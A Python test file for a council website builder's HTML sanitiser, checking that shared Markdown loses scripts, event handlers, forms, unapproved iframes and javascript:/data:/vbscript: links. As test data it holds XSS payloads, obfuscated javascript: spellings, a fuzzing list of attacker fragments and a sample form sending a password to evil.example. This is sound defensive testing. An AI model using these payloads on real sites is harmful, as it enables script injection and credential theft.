"""Shared Markdown is content, not code: raw HTML from a shared source is cleaned, a council's own kept,
and javascript:, data: and vbscript: addresses refused everywhere; through real builds."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st
from conftest import BASE_PROFILE, FIXTURES, Project, fails_with_one, make_project, shared_source
from html_reader import Element, parse

from lgsite.errors import LgsiteError
from lgsite.layers import Page, Provenance
from lgsite.sanitise import (
    ELEMENTS, EMBED, EMBED_ATTRIBUTES, GLOBAL_ATTRIBUTES, ContentPolicy, https_origin, is_refused,
)

YOUTUBE = "https://www.youtube-nocookie.com"
META = "category: rubbish-and-recycling\nowner: Test team\nlast_reviewed: 2026-11-20\nreview_by: 2099-05-20\n"

# Ordinary Markdown, as shared pages are written: it must come out of cleaning exactly as it went in.
# (The raw table writes its <tbody>: nh3 parses as a browser does and adds it where it is left out.)
ORDINARY = """
Put your bin out by 7am on your collection day.

## What goes in which bin

| Bin | What goes in it | Collected |
|:----|:---------------:|----------:|
| Green | garden waste | fortnightly |
| Blue | paper and card | weekly |

- rinse cans and bottles
- flatten boxes

Then:

1. check your [collection day](#when-we-collect)
2. see [recycling](recycling.md#top "Recycling rules")

![A blue recycling bin](bin.png)

> Bins left out after 7pm may not be emptied.

Call us on <abbr title="telephone">tel</abbr> [01632 960 111](tel:01632960111) or
[email us](mailto:help@testbury.example).

## When we collect

`code` and **bold** and *emphasis*.

---

<details class="note"><summary>More help</summary><p>Ask at the <span class="lg-x">Town Hall</span>.</p></details>

<table>
<caption>Opening times</caption>
<tbody>
<tr><th scope="col">Day</th><th scope="col" colspan="2">Hours</th></tr>
<tr><th scope="row">Monday</th><td>9am</td><td rowspan="2">5pm</td></tr>
</tbody>
</table>

<dl><dt>Garden waste</dt><dd>Grass and leaves.<sup>1</sup> H<sub>2</sub>O<br>next line</dd></dl>
"""

UNSAFE = """
<script>alert("script")</script>

<img src="x.png" alt="an image" onerror="alert('onerror')">

<iframe src="https://evil.example/" title="Evil">evil fallback</iframe>

<iframe src="https://www.youtube-nocookie.com/embed/x" title="Our video" width="560" allow="camera; microphone"
 onload="alert('onload')" allowfullscreen></iframe>

<style>body { display: none }</style>

<p style="position: fixed; top: 0" class="warning" onclick="alert('onclick')">Styled paragraph.</p>

<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>

<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf">

<svg><script>alert("svg")</script></svg>

<a href="https://example.org/" target="_blank" onmouseover="alert('hover')">A link</a>
"""


def page(title: str, body: str) -> str:
    return f"---\ntitle: {title}\ndescription: {title}.\n{META}---\n{textwrap.dedent(body).lstrip()}"


def article(project: Project, url_path: str) -> Element:
    return parse(project.page(url_path)).one("article")


def make(root: Path, pages: dict[str, str], **profile: object) -> Project:
    shared = shared_source(root / "shared", pages)
    return make_project(root / "council", shared=[str(FIXTURES / "shared-basic"), str(shared)],
                        profile={**BASE_PROFILE, **profile})


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Project:
    root = tmp_path_factory.mktemp("sanitise")
    image = root / "shared" / "pages" / "environment-and-waste" / "bin.png"
    image.parent.mkdir(parents=True)
    image.write_bytes(b"\x89PNG\r\n\x1a\n")
    project = make(root, {
        "environment-and-waste/unsafe.md": page("Unsafe", UNSAFE + ORDINARY),
        "environment-and-waste/ordinary.md": page("Ordinary", ORDINARY),
    }, embeds=[YOUTUBE])
    project.write("docs/environment-and-waste/ordinary-local.md", page("Ordinary", ORDINARY))
    project.write("docs/environment-and-waste/our-html.md", page("Our HTML", """
        <div class="lg-callout" data-widget="bins" style="border: 2px solid" onclick="track()">Our own box.</div>

        <form action="https://forms.testbury.example/"><button>Search bins</button></form>
        """))
    result = project.build()
    assert result.returncode == 0, result.stderr
    return project


# ------------------------------------------------------------------ shared pages are cleaned


def test_shared_raw_html_keeps_nothing_that_runs(built: Project) -> None:
    content = article(built, "environment-and-waste/unsafe")
    elements = content.find_all()
    tags = {element.tag for element in elements}
    assert not tags & {"script", "style", "form", "button", "object", "embed", "svg"}
    # An <input> stays only as a tab's radio button: with no form, nothing can be typed in and sent.
    assert [element.attrs.get("type") for element in content.find_all("input")] == ["radio"]
    for element in elements:
        assert not [name for name in element.attrs if name.startswith("on")], element
        assert "target" not in element.attrs and "allow" not in element.attrs
        if "style" in element.attrs:
            assert element.tag in ("th", "td") and element.attrs["style"].startswith("text-align:")
    text = content.text
    assert "alert" not in text and "display" not in text and "evil fallback" not in text
    assert "Styled paragraph." in text and "A link" in text
    [image] = content.find_all("img", alt="an image")
    assert image.attrs == {"src": "x.png", "alt": "an image"}
    assert content.find("p", class_="warning").attrs == {"class": "warning"}


def test_an_iframe_stays_only_from_an_origin_the_council_allows(built: Project) -> None:
    [frame] = article(built, "environment-and-waste/unsafe").find_all("iframe")
    assert frame.attrs == {"src": f"{YOUTUBE}/embed/x", "title": "Our video", "width": "560", "allowfullscreen": ""}


def test_ordinary_markdown_comes_out_as_it_does_on_a_council_page(built: Project) -> None:
    shared = article(built, "environment-and-waste/ordinary")
    local = article(built, "environment-and-waste/ordinary-local")
    assert shared == local  # the council's own page is not cleaned: the same Markdown, the same HTML
    assert [(h.attrs.get("id"), h.text) for h in shared.find_all("h2")] == [
        ("what-goes-in-which-bin", "What goes in which bin"), ("when-we-collect", "When we collect"),
    ]
    links = {a.text: a.attrs for a in shared.find_all("a")}
    assert links["collection day"] == {"href": "#when-we-collect"}
    assert links["recycling"] == {"href": "../recycling/#top", "title": "Recycling rules"}
    assert links["01632 960 111"] == {"href": "tel:01632960111"}
    assert links["email us"] == {"href": "mailto:help@testbury.example"}
    assert shared.find("img").attrs == {"src": "../bin.png", "alt": "A blue recycling bin"}
    assert [th.attrs for th in shared.find_all("th")][:3] == [
        {"style": "text-align:left"}, {"style": "text-align:center"}, {"style": "text-align:right"},
    ]
    assert shared.find("th", scope="col", colspan="2").text == "Hours"
    assert shared.find("td", rowspan="2").text == "5pm"
    assert shared.find("caption").text == "Opening times"
    assert shared.find("details", class_="note").find("summary").text == "More help"
    assert shared.find("abbr", title="telephone") is not None
    assert {"ul", "ol", "li", "blockquote", "code", "strong", "em", "hr", "dl", "dt", "dd", "sup", "sub", "br"} <= {
        element.tag for element in shared.find_all()
    }


def test_the_councils_own_page_keeps_its_raw_html(built: Project) -> None:
    content = article(built, "environment-and-waste/our-html")
    box = content.find("div", class_="lg-callout")
    assert box is not None and box.attrs["data-widget"] == "bins" and box.attrs["onclick"] == "track()"
    assert "border" in box.attrs["style"]
    assert content.find("form", action="https://forms.testbury.example/") is not None


def test_without_embeds_every_iframe_is_left_out_with_a_warning(tmp_path: Path) -> None:
    project = make(tmp_path, {"environment-and-waste/unsafe.md": page("Unsafe", UNSAFE)})
    result = project.build()
    assert result.returncode == 0, result.stderr
    assert article(project, "environment-and-waste/unsafe").find_all("iframe") == []
    assert "evil.example" not in project.page("environment-and-waste/unsafe")
    shared = tmp_path / "shared" / "pages" / "environment-and-waste" / "unsafe.md"
    warnings = [line for line in result.stderr.splitlines() if "embeds:" in line]
    fix = "which embeds: in council.yml does not list; it is left out. " \
          "Add the origin to embeds: in council.yml if the council trusts it."
    assert warnings == [
        f"warning: {shared}:13: embeds https://evil.example, {fix}",
        f"warning: {shared}:15: embeds {YOUTUBE}, {fix}",
        f"warning: {shared}:24: loads https://evil.example (<embed>), {fix}",
        f"warning: {shared}:24: loads https://evil.example (<object>), {fix}",
    ]


# ------------------------------------------------------------------ javascript:, data: and vbscript: everywhere


@pytest.mark.parametrize(("body", "line"), [
    ("[Pay now](javascript:alert(1))", 12),
    ("![A chart](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)", 12),
    ('<a href="&#106;ava&Tab;script&colon;alert(1)">Pay now</a>', 12),
    ("[Pay now][pay]\n\n[pay]: VBScript:msgbox(1)", 16),
])
def test_a_refused_address_on_a_councils_own_page_stops_the_build(tmp_path: Path, body: str, line: int) -> None:
    project = make_project(tmp_path / "council")
    project.write("docs/pay.md", f"---\ntitle: Pay\ndescription: Pay.\n---\n\nIntro.\n\n```\n{body}\n```\n\n{body}\n")
    error = fails_with_one(project)
    assert error.startswith(f"error: docs/pay.md:{line}: links to '"), error
    assert "addresses are not allowed. Link to a web page (https://...) instead." in error


def test_a_javascript_link_in_a_shared_page_names_the_shared_file(tmp_path: Path) -> None:
    project = make(tmp_path, {"environment-and-waste/bad.md": page("Bad", """
        Intro.

        <p>Pay <a href="javascript:alert(1)">here</a>.</p>
        """)})
    line = fails_with_one(project)
    shared = tmp_path / "shared" / "pages" / "environment-and-waste" / "bad.md"
    assert line == (f"error: {shared}:11: links to 'javascript:alert(1)'; javascript: addresses are not allowed. "
                    f"It comes from the shared source '{tmp_path / 'shared'}': ask its maintainers to remove it, "
                    "or replace the page in docs/.")


def test_a_javascript_link_in_a_merged_page_names_its_section(tmp_path: Path) -> None:
    project = make(tmp_path, {"environment-and-waste/bins.md": page("Bins", """
        Intro.

        ## Report a problem

        [Report it](javascript:alert(1))

        ## Opening times

        Monday to Friday.
        """)})
    project.write("docs/environment-and-waste/bins.md", """
        ---
        override: sections
        ---
        ## Opening times

        Monday to Saturday.
        """)
    line = fails_with_one(project)
    assert line.startswith("error: docs/environment-and-waste/bins.md: links to 'javascript:alert(1)' "
                           "in the section 'report-a-problem'; javascript: addresses are not allowed."), line


# ------------------------------------------------------------------ council.yml embeds:


@pytest.mark.parametrize(("value", "expected"), [
    ("embeds: https://www.youtube-nocookie.com", "'embeds' must be a list, not 'https://www.youtube-nocookie.com'"),
    ("embeds: [https://www.youtube-nocookie.com/embed]", "embeds entry 'https://www.youtube-nocookie.com/embed' "
                                                         "is not an https origin"),
    ("embeds: [http://www.youtube-nocookie.com]",
     "embeds entry 'http://www.youtube-nocookie.com' is not an https origin"),
])
def test_embeds_must_be_https_origins(tmp_path: Path, value: str, expected: str) -> None:
    project = make_project(tmp_path / "council")
    project.set_profile(raw=yaml.safe_dump(BASE_PROFILE, sort_keys=False) + value + "\n")
    line = fails_with_one(project)
    assert line.startswith("error: council.yml:") and expected in line, line


# ------------------------------------------------------------------ the engine on its own


@pytest.mark.parametrize("href", [
    "javascript:alert(1)", "JAVASCRIPT:alert(1)", " \tjava\nscript:alert(1)", "&#x6A;avascript:alert(1)",
    "javascript&colon;alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
])
def test_every_spelling_of_a_refused_scheme_is_caught(href: str) -> None:
    shared = Page("a.md", {}, "x", 1, Provenance("inherited", "s", file="s/a.md"))
    with pytest.raises(LgsiteError, match="addresses are not allowed"):
        ContentPolicy().apply(f'<p><a href="{href}">x</a><img src="{href}"></p>', shared)
    local = Page("b.md", {}, "x", 1, Provenance("local", file="docs/b.md"))
    with pytest.raises(LgsiteError, match="addresses are not allowed"):
        ContentPolicy().apply(f'<p><a href="{href}">x</a></p>', local)


# Pieces an attacker would put together: elements, attributes, address spellings and text.
FRAGMENT = st.sampled_from([
    "<script>", "</script>", "<style>", "<iframe src=", "</iframe>", "<svg onload=", "<img src=", "<a href=",
    "<form action=", "<object data=", "<p style=", " onerror=", " onclick=", " srcdoc=", " formaction=", "<math>",
    "javascript:", "JaVaScRiPt:", "java&#x09;script:", "&#106;avascript:", "data:text/html,", "vbscript:",
    "https://evil.example/", "https://www.youtube-nocookie.com/e", "\"", "'", ">", "<", "/>", "<!--", "-->",
    "alert(1)", " ", "\n", "<![CDATA[", "<noscript>", "<template>", "<base href=", "<meta http-equiv=refresh",
])


@settings(max_examples=300, deadline=None)
@given(st.lists(FRAGMENT, max_size=24).map("".join))
def test_cleaned_html_keeps_only_the_allow_list_whatever_goes_in(html: str) -> None:
    shared = Page("a.md", {}, html, 1, Provenance("inherited", "s", file="s/a.md"))
    try:
        cleaned = ContentPolicy([YOUTUBE]).apply(html, shared).html
    except LgsiteError as error:
        assert "addresses are not allowed" in str(error)
        return
    for tag, attrs in ((element.tag, element.attrs) for element in parse(cleaned).elements()):
        assert tag in ELEMENTS or tag == EMBED, (tag, cleaned)
        allowed = GLOBAL_ATTRIBUTES | (EMBED_ATTRIBUTES if tag == EMBED else ELEMENTS[tag])
        assert set(attrs) <= allowed, (tag, attrs, cleaned)
        for name in ("href", "src"):
            assert not is_refused(attrs.get(name) or ""), cleaned
        if tag == EMBED:
            assert https_origin(attrs.get("src") or "") == YOUTUBE, cleaned
